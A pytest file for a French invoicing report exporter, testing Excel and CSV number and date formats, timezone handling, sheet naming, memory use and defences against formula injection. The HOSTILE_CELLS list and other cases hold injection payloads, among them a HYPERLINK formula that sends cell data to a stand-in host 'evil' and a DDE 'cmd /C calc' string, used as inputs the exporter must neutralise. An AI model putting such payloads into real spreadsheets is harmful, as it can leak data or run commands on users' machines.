"""Excel and CSV exports: real numbers and dates, French formats, no formula injection."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import pandas as pd
import pytest

from reports.excel import (
    DATE_FORMAT,
    DATETIME_FORMAT,
    INTEGER_FORMAT,
    MONEY_FORMAT,
    PERCENT_FORMAT,
    SummaryRow,
    WorkbookSummary,
    dataframe_to_csv_bytes,
    neutralise_text,
    sheet_title,
    write_workbook,
)
from reports.model import Column, TableSpec

GUADELOUPE = ZoneInfo("America/Guadeloupe")
COLUMNS = (
    Column("numero", "N° facture"),
    Column("montant", "Montant", "money"),
    Column("taux", "Taux", "percent"),
    Column("nombre", "Candidatures", "integer"),
    Column("emise", "Émise le", "date"),
    Column("recue", "Reçue le", "datetime"),
)


def _workbook(rows: list[tuple[object, ...]], **kwargs: object) -> openpyxl.Workbook:
    buffer = io.BytesIO()
    table = TableSpec("Factures", COLUMNS, pd.DataFrame(rows, columns=[c.key for c in COLUMNS]))
    write_workbook([table], buffer, tz=GUADELOUPE, **kwargs)  # type: ignore[arg-type]
    buffer.seek(0)
    return openpyxl.load_workbook(buffer)


ROW = (
    "F-2026-001",
    Decimal("-1234.50"),
    0.3125,
    42,
    date(2026, 11, 22),
    datetime(2026, 1, 1, 2, 30, tzinfo=UTC),  # still 31/12/2025 in Guadeloupe
)


def test_numbers_are_real_numbers_with_french_display_formats() -> None:
    sheet = _workbook([ROW])["Factures"]
    money, rate, count = sheet["B2"], sheet["C2"], sheet["D2"]
    assert (money.value, money.number_format) == (-1234.5, MONEY_FORMAT)
    assert (rate.value, rate.number_format) == (0.3125, PERCENT_FORMAT)
    assert (count.value, count.number_format) == (42, INTEGER_FORMAT)
    assert money.data_type == "n"


def test_negative_amount_stays_a_negative_number() -> None:
    cell = _workbook([ROW])["Factures"]["B2"]
    assert isinstance(cell.value, float) and cell.value < 0


def test_dates_are_real_date_cells_in_local_time() -> None:
    sheet = _workbook([ROW])["Factures"]
    emise, recue = sheet["E2"], sheet["F2"]
    assert emise.is_date and emise.value.date() == date(2026, 11, 22)
    assert emise.number_format == DATE_FORMAT
    assert recue.is_date and recue.value == datetime(2025, 12, 31, 22, 30)
    assert recue.number_format == DATETIME_FORMAT


@pytest.mark.parametrize(
    ("text", "stored"),
    [
        ("=SUM(A1)", "'=SUM(A1)"),
        ("+33 6 12", "'+33 6 12"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\tindent", "'\tindent"),
        ("Aide-soignant", "Aide-soignant"),
        ("a\x00b\x07c", "abc"),
    ],
)
def test_text_cells_are_neutralised_against_formulas(text: str, stored: str) -> None:
    cell = _workbook([(text, *ROW[1:])])["Factures"]["A2"]
    assert cell.value == stored
    assert cell.data_type == "s"


def test_header_is_frozen_and_filterable_with_sensible_widths() -> None:
    sheet = _workbook([ROW, ROW])["Factures"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:F3"
    assert [c.value for c in sheet[1]] == [c.header for c in COLUMNS]
    widths = [sheet.column_dimensions[letter].width for letter in "ABCDEF"]
    assert all(8 <= width <= 60 for width in widths)
    assert sheet.column_dimensions["F"].width >= len("Reçue le") + 3


def test_summary_sheet_comes_first_with_figures_as_numbers() -> None:
    summary = WorkbookSummary(
        "CIP FARO — essai",
        ("Période : du 01/10/2026 au 31/10/2026",),
        (SummaryRow("CA facturé", Decimal("1500.25"), "money", Decimal("1000")),),
        compared=True,
    )
    book = _workbook([ROW], summary=summary)
    assert book.sheetnames == ["Synthèse", "Factures"]
    values = [[c.value for c in row] for row in book["Synthèse"].iter_rows()]
    assert ["CA facturé", 1500.25, 1000] in values
    assert ["Indicateur", "Valeur", "Période précédente"] in values


@pytest.mark.parametrize(
    ("name", "expected"),
    [("CA [2026]: total?", "CA 2026 total"), ("x" * 40, "x" * 31), ("Factures", "Factures (2)")],
)
def test_sheet_titles_are_valid_and_unique(name: str, expected: str) -> None:
    assert sheet_title(name, {"factures"}) == expected


def test_csv_is_french_spreadsheet_friendly_and_neutralised() -> None:
    df = pd.DataFrame(
        {
            "Libellé": ['=HYPERLINK("x")', "Région"],
            "Montant": [1234.5, -2.25],
            "Émise le": [date(2026, 11, 22), date(2026, 1, 2)],
        }
    )
    data = dataframe_to_csv_bytes(df, tz=GUADELOUPE)
    assert data.startswith(b"\xef\xbb\xbf")
    lines = data.decode("utf-8-sig").splitlines()
    assert lines[0] == "Libellé;Montant;Émise le"
    assert lines[1] == '"\'=HYPERLINK(""x"")";1234,5;22/11/2026'
    assert lines[2] == "Région;-2,25;02/01/2026"


# Text a spreadsheet still reads as a formula after trimming, or in full-width form.
HOSTILE_CELLS = (
    '=HYPERLINK("http://evil/?"&A2,"x")',
    ' =HYPERLINK("http://evil/?"&A2,"x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  \n @SUM(A1:A9)",
    '＝HYPERLINK("http://evil/")',
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
)


@pytest.mark.parametrize("text", HOSTILE_CELLS)
def test_hostile_text_is_neutralised_in_excel(text: str) -> None:
    cell = _workbook([(text, *ROW[1:])])["Factures"]["A2"]
    assert cell.data_type == "s"  # XML stores a carriage return as a line feed
    assert cell.value.replace("\r", "\n") == "'" + text.replace("\r", "\n")


@pytest.mark.parametrize("text", HOSTILE_CELLS)
def test_hostile_text_is_neutralised_in_csv(text: str) -> None:
    data = dataframe_to_csv_bytes(pd.DataFrame({"Message": [text]}), tz=GUADELOUPE)
    [row] = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))[1:]
    assert row == ["'" + text]


@pytest.mark.parametrize("value", [-1234.5, Decimal("-1234.5"), "-1234,5"])
def test_a_negative_amount_stays_a_number_in_csv_and_excel(value: object) -> None:
    data = dataframe_to_csv_bytes(pd.DataFrame({"Montant": [value]}), tz=GUADELOUPE)
    assert data.decode("utf-8-sig").splitlines()[1] == "-1234,5"
    cell = _workbook([("Avoir", value, *ROW[2:])])["Factures"]["B2"]
    assert cell.value in (-1234.5, "-1234,5")
    if not isinstance(value, str):
        assert cell.data_type == "n" and cell.value == -1234.5


def test_carriage_return_text_is_neutralised() -> None:
    cell = _workbook([("\r=1+1", *ROW[1:])])["Factures"]["A2"]
    assert cell.data_type == "s" and cell.value.startswith("'")


@pytest.mark.slow
def test_large_export_streams_in_flat_memory(tmp_path: Path) -> None:
    """100 000 rows in write-only mode: peak memory (RSS) of the whole process under 300 MB."""
    script = tmp_path / "export.py"
    script.write_text(
        "import sys\n"
        "from datetime import UTC, datetime, timedelta\n"
        "from zoneinfo import ZoneInfo\n"
        "from reports.excel import write_workbook\n"
        "from reports.model import Column, TableSpec\n"
        "cols = (Column('id', 'N°', 'id'), Column('nom', 'Nom'), Column('m', 'Montant', 'money'),\n"
        "        Column('t', 'Taux', 'percent'), Column('d', 'Reçue le', 'datetime'))\n"
        "base = datetime(2026, 1, 1, tzinfo=UTC)\n"
        "rows = ((i, f'Candidat {i}', i * 1.5 - 10, i / 1e5, base + timedelta(minutes=i))\n"
        "        for i in range(100_000))\n"
        "n = write_workbook([TableSpec('Lignes', cols, rows)], sys.argv[1],\n"
        "                   tz=ZoneInfo('America/Guadeloupe'))\n"
        "hwm = [l for l in open('/proc/self/status') if l.startswith('VmHWM:')][0]\n"
        "print(n['Lignes'], int(hwm.split()[1]) // 1024)\n",
        encoding="utf-8",
    )
    out = tmp_path / "big.xlsx"
    root = Path(__file__).resolve().parent.parent
    done = subprocess.run(
        [sys.executable, str(script), str(out)],
        capture_output=True,
        text=True,
        cwd=root,
        env={"PYTHONPATH": str(root), "PATH": "/usr/bin:/bin"},
        check=True,
        timeout=300,
    )
    rows, peak_mb = (int(part) for part in done.stdout.split())
    assert rows == 100_000
    assert peak_mb < 300, f"peak {peak_mb} MB"
    sheet = openpyxl.load_workbook(out, read_only=True)["Lignes"]
    assert sum(1 for _row in sheet.iter_rows(values_only=True)) == 100_001


def test_neutralise_leaves_ordinary_text_alone() -> None:
    assert neutralise_text("Pointe-à-Pitre") == "Pointe-à-Pitre"
